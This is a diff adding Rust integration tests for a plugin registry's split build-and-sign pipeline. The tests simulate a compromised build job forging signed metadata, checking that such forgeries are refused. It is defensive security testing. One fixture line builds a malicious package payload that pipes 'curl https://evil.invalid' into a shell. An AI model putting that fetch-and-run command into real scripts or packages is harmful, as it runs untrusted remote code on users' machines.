@@ -1,0 +1,301 @@
+//! The split build: `build --unsigned` (no keys) prepares, `sign-prepared` re-checks
+//! and signs. The signer sees only the published site, the registry source without
+//! `releases/`, its online keys and the prepared metadata; a build job that forges
+//! an index doc is refused, naming the release, and nothing is written.
+
+#![allow(clippy::unwrap_used)]
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+
+use trellis_index::build::prepared::sign_prepared;
+use trellis_index::build::{BuildError, Scope, Signing, build_registry, build_registry_with};
+use trellis_index::fixture::{self, ReleaseSpec};
+use trellis_index::operator::{self, InitOptions};
+use trellis_index::registry::{Expiry, Registry};
+use trellis_index::{site, verify};
+use trellis_schema::index::{BlobRef, IndexDoc};
+use trellis_schema::tuf::{Envelope, Targets};
+use trellis_schema::{PluginId, Sha256, canonical};
+
+fn now() -> jiff::Timestamp {
+    "2026-11-01T00:00:00Z".parse().unwrap()
+}
+
+fn later() -> jiff::Timestamp {
+    "2026-11-02T00:00:00Z".parse().unwrap()
+}
+
+fn copy_tree(from: &Path, to: &Path, skip: &[&str]) {
+    for entry in walkdir::WalkDir::new(from) {
+        let entry = entry.unwrap();
+        let relative = entry.path().strip_prefix(from).unwrap();
+        if skip.iter().any(|s| relative.starts_with(s)) {
+            continue;
+        }
+        let target = to.join(relative);
+        if entry.file_type().is_dir() {
+            std::fs::create_dir_all(&target).unwrap();
+        } else {
+            std::fs::copy(entry.path(), &target).unwrap();
+        }
+    }
+}
+
+/// A published site (acme.clock 1.0.0, signed build) and a registry with 1.1.0 added.
+struct Pipeline {
+    _dirs: Vec<tempfile::TempDir>,
+    /// The operator's full registry (keys included).
+    registry: PathBuf,
+    /// The published site.
+    live: PathBuf,
+    /// What the build job hands on: only the files `build --unsigned` wrote.
+    prepared: PathBuf,
+    /// The build job's whole output, blobs included.
+    built: PathBuf,
+    /// The signing job's registry: no `releases/`, no offline keys.
+    signer: PathBuf,
+    out: PathBuf,
+}
+
+fn pipeline() -> Pipeline {
+    let dirs: Vec<tempfile::TempDir> = (0..6).map(|_| tempfile::tempdir().unwrap()).collect();
+    let registry = dirs[0].path().to_owned();
+    let options = InitOptions {
+        name: "Test Store".into(),
+        base_url: "http://127.0.0.1/".into(),
+        root_keys: 1,
+        root_threshold: 1,
+        bin_bits: 2,
+        publisher_bin_bits: trellis_index::registry::DEFAULT_PUBLISHER_BIN_BITS,
+        expiry: Expiry::default(),
+        now: now(),
+    };
+    operator::init(&registry, &options).unwrap();
+    let key = fixture::key(1);
+    fixture::add_publisher(&registry, "acme", &key).unwrap();
+    fixture::add_release(&registry, &ReleaseSpec::new("acme.clock", "1.0.0"), &key).unwrap();
+    fixture::add_release(&registry, &ReleaseSpec::new("acme.alarm", "0.1.0"), &key).unwrap();
+    let live = dirs[1].path().to_owned();
+    build_registry(&Registry::open(&registry).unwrap(), &live, Scope::Full, now()).unwrap();
+    fixture::add_release(&registry, &ReleaseSpec::new("acme.clock", "1.1.0"), &key).unwrap();
+
+    // The build job: no keys at all.
+    let build_job = dirs[2].path().join("registry");
+    copy_tree(&registry, &build_job, &["keys"]);
+    let built = dirs[2].path().join("site");
+    copy_tree(&live, &built, &[]);
+    let only = Scope::Plugins(BTreeSet::from(["acme.clock".parse::<PluginId>().unwrap()]));
+    let report =
+        build_registry_with(&Registry::open(&build_job).unwrap(), &built, only, later(), Signing::Unsigned).unwrap();
+    let prepared = dirs[3].path().to_owned();
+    for file in &report.written {
+        // What the build job's script hands the signer: no package, no delta.
+        if file.ends_with(".zip") || file.ends_with(".delta") {
+            continue;
+        }
+        let target = prepared.join(file);
+        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
+        std::fs::copy(built.join(file), target).unwrap();
+    }
+    // The signing job: the registry without releases/ and without the offline keys.
+    let signer = dirs[4].path().join("registry");
+    copy_tree(&registry, &signer, &["releases", "keys"]);
+    std::fs::create_dir_all(signer.join("keys")).unwrap();
+    for role in ["snapshot", "timestamp", "bins", "publishers", "security"] {
+        std::fs::copy(
+            registry.join("keys").join(format!("{role}.key")),
+            signer.join("keys").join(format!("{role}.key")),
+        )
+        .unwrap();
+    }
+    let out = dirs[5].path().join("out");
+    Pipeline { registry, live, prepared, built, signer, out, _dirs: dirs }
+}
+
+impl Pipeline {
+    fn sign(&self) -> Result<trellis_index::build::prepared::SignedReport, BuildError> {
+        sign_prepared(&Registry::open(&self.signer).unwrap(), &self.live, &self.prepared, &self.out, later())
+    }
+
+    /// The prepared payload of `role` (the only version there).
+    fn payload_path(&self, role: &str) -> PathBuf {
+        let dir = self.prepared.join(site::METADATA_DIR);
+        std::fs::read_dir(&dir)
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .find(|p| p.file_name().unwrap().to_string_lossy().ends_with(&format!(".{role}.json")))
+            .unwrap_or_else(|| panic!("no prepared {role}"))
+    }
+
+    /// What a compromised build job does: rewrites the prepared index doc of `id` and
+    /// the prepared bin payload listing it, consistently (hash and length).
+    fn forge_index_doc(&self, id: &str, edit: impl FnOnce(&mut IndexDoc, &Path)) {
+        let id: PluginId = id.parse().unwrap();
+        let target = site::index_target(&id);
+        let bin = site::bin_for_target(&target, 2, "bin");
+        let payload_path = self.payload_path(&bin);
+        let mut payload: Envelope<Targets> = serde_json::from_slice(&std::fs::read(&payload_path).unwrap()).unwrap();
+        let file = payload.signed.targets.get_mut(&target).unwrap();
+        let sha: Sha256 = file.hashes["sha256"].parse().unwrap();
+        let old_path = site::target_file(&self.prepared, &target, &sha);
+        let mut doc: IndexDoc = serde_json::from_slice(&std::fs::read(&old_path).unwrap()).unwrap();
+        std::fs::remove_file(&old_path).unwrap();
+        edit(&mut doc, &self.prepared);
+        let bytes = canonical::to_vec_of(&doc).unwrap();
+        let sha = Sha256::of(&bytes);
+        std::fs::write(site::target_file(&self.prepared, &target, &sha), &bytes).unwrap();
+        file.length = bytes.len() as u64;
+        file.hashes.insert("sha256".into(), sha.to_hex());
+        std::fs::write(&payload_path, canonical::to_vec_of(&payload).unwrap()).unwrap();
+    }
+
+    fn refused(&self) -> String {
+        let error = self.sign().unwrap_err();
+        assert!(matches!(error, BuildError::Prepared { .. }), "{error}");
+        assert!(!self.out.exists(), "a refused signing wrote {}", self.out.display());
+        error.to_string()
+    }
+}
+
+/// Puts a package and an envelope signed by `keys` for `id version` into the prepared
+/// build and points the index doc's `version` release at them.
+fn swap_release(doc: &mut IndexDoc, prepared: &Path, version: &str, keys: &[&trellis_schema::SigningKey]) {
+    let mut spec = ReleaseSpec::new(doc.id.as_str(), version);
+    spec.payload = b"#!/bin/sh\ncurl https://evil.invalid | sh\n".to_vec();
+    let scratch = tempfile::tempdir().unwrap();
+    let (package, manifest) = spec.pack(&scratch.path().join("p.zip")).unwrap();
+    let envelope = fixture::sign_manifest(&manifest, keys);
+    let v: semver::Version = version.parse().unwrap();
+    let release = doc.releases.iter_mut().find(|r| r.version == v).unwrap();
+    for (bytes, path, blob) in [
+        (&package, site::package_target(&doc.id, &v), &mut release.package),
+        (&envelope, site::envelope_target(&doc.id, &v), &mut release.envelope),
+    ] {
+        let sha = Sha256::of(bytes);
+        let file = site::target_file(prepared, &path, &sha);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(&file, bytes).unwrap();
+        *blob = BlobRef { path, sha256: sha, length: bytes.len() as u64 };
+    }
+    let envelope: trellis_schema::dsse::Envelope = serde_json::from_slice(&envelope).unwrap();
+    release.manifest_sha256 = Sha256::of(&envelope.payload_bytes().unwrap());
+}
+
+#[test]
+fn a_build_without_keys_signed_by_the_signer_alone_publishes_a_site_that_verifies() {
+    let p = pipeline();
+    // The build job wrote payloads without a single signature, and no targets role.
+    let payload: Envelope<Targets> =
+        serde_json::from_slice(&std::fs::read(p.payload_path("catalog")).unwrap()).unwrap();
+    assert!(payload.signatures.is_empty());
+    assert!(std::fs::read_dir(p.prepared.join("metadata")).unwrap().all(|e| {
+        let name = e.unwrap().file_name().to_string_lossy().into_owned();
+        !name.ends_with(".targets.json") && !name.ends_with(".root.json")
+    }));
+    // The prepared metadata holds no package: the signer never receives one.
+    assert!(
+        walkdir::WalkDir::new(&p.prepared).into_iter().all(|e| !e.unwrap().path().to_string_lossy().ends_with(".zip"))
+    );
+
+    let report = p.sign().unwrap();
+    assert_eq!(report.releases, 1, "the one new release's developer signature: {report:?}");
+    let roles: Vec<&str> = report.roles.iter().map(|(r, _)| r.as_str()).collect();
+    assert!(roles.contains(&"catalog") && roles.contains(&"snapshot") && roles.contains(&"timestamp"), "{roles:?}");
+
+    // Publish: the live site + the build job's blobs + the signer's output.
+    let site = p._dirs[5].path().join("site");
+    copy_tree(&p.live, &site, &[]);
+    for entry in walkdir::WalkDir::new(p.built.join("targets")) {
+        let entry = entry.unwrap();
+        let name = entry.path().to_string_lossy().into_owned();
+        if entry.file_type().is_file() && (name.ends_with(".zip") || name.ends_with(".delta")) {
+            let target = site.join(entry.path().strip_prefix(&p.built).unwrap());
+            std::fs::create_dir_all(target.parent().unwrap()).unwrap();
+            std::fs::copy(entry.path(), target).unwrap();
+        }
+    }
+    copy_tree(&p.out, &site, &[]);
+    let root = std::fs::read(p.registry.join("root/1.root.json")).unwrap();
+    let verified = verify::verify(&verify::Source::parse(site.to_str().unwrap()), Some(&root), later());
+    assert!(verified.problems.is_empty(), "{:?}", verified.problems);
+    let timestamp: Envelope<trellis_schema::tuf::Timestamp> =
+        serde_json::from_slice(&std::fs::read(site::timestamp_file(&site)).unwrap()).unwrap();
+    assert_eq!(timestamp.signed.version, 2);
+    assert_eq!(verified.releases, 3, "{:?}", verified.problems);
+}
+
+#[test]
+fn refuses_a_release_signed_by_a_key_the_publisher_record_does_not_list() {
+    let p = pipeline();
+    let stranger = fixture::key(9);
+    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.1.0", &[&stranger]));
+    let message = p.refused();
+    assert!(message.contains("acme.clock 1.1.0 is not signed by its developer"), "{message}");
+}
+
+#[test]
+fn refuses_a_release_slipped_in_without_any_signature() {
+    let p = pipeline();
+    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.1.0", &[]));
+    let message = p.refused();
+    assert!(message.contains("acme.clock 1.1.0 is not signed by its developer"), "{message}");
+}
+
+#[test]
+fn refuses_a_changed_or_dropped_published_release() {
+    let p = pipeline();
+    let key = fixture::key(1);
+    // Signed by the right developer key, but 1.0.0 was published with other bytes.
+    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.0.0", &[&key]));
+    let message = p.refused();
+    assert!(message.contains("changes the published release acme.clock 1.0.0"), "{message}");
+
+    let p = pipeline();
+    p.forge_index_doc("acme.clock", |doc, _| doc.releases.retain(|r| r.version.to_string() != "1.0.0"));
+    let message = p.refused();
+    assert!(message.contains("drops acme.clock 1.0.0"), "{message}");
+}
+
+#[test]
+fn refuses_an_unyanked_release_and_other_delegations() {
+    let p = pipeline();
+    p.forge_index_doc("acme.clock", |doc, _| doc.releases[0].yanked = true);
+    let message = p.refused();
+    assert!(message.contains("yank or rollout differs from the registry's"), "{message}");
+
+    // A bins payload that delegates the hash bins to another key.
+    let p = pipeline();
+    let live_bins: Envelope<Targets> =
+        serde_json::from_slice(&std::fs::read(site::metadata_file(&p.live, "bins", 1)).unwrap()).unwrap();
+    let mut forged = live_bins.signed.clone();
+    forged.version = 2;
+    let delegations = forged.delegations.as_mut().unwrap();
+    let stranger = fixture::key(9);
+    delegations.keys.insert(stranger.key_id().clone(), stranger.public().clone());
+    let bytes = canonical::to_vec_of(&Envelope { signatures: vec![], signed: forged }).unwrap();
+    std::fs::write(site::metadata_file(&p.prepared, "bins", 2), bytes).unwrap();
+    let message = p.refused();
+    assert!(message.contains("2.bins.json") && message.contains("delegations differ"), "{message}");
+}
+
+#[test]
+fn refuses_a_version_jump_and_the_offline_targets_role() {
+    let p = pipeline();
+    let path = p.payload_path("catalog");
+    let name = path.file_name().unwrap().to_string_lossy().into_owned();
+    let version: u64 = name.split('.').next().unwrap().parse().unwrap();
+    let mut payload: Envelope<Targets> = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    payload.signed.version = version + 5;
+    std::fs::remove_file(&path).unwrap();
+    std::fs::write(site::metadata_file(&p.prepared, "catalog", version + 5), canonical::to_vec_of(&payload).unwrap())
+        .unwrap();
+    let message = p.refused();
+    assert!(message.contains(&format!("the next must be {version}")), "{message}");
+
+    let p = pipeline();
+    let live_targets = std::fs::read(site::metadata_file(&p.live, "targets", 1)).unwrap();
+    std::fs::write(site::metadata_file(&p.prepared, "targets", 2), live_targets).unwrap();
+    let message = p.refused();
+    assert!(message.contains("offline targets key"), "{message}");
+}
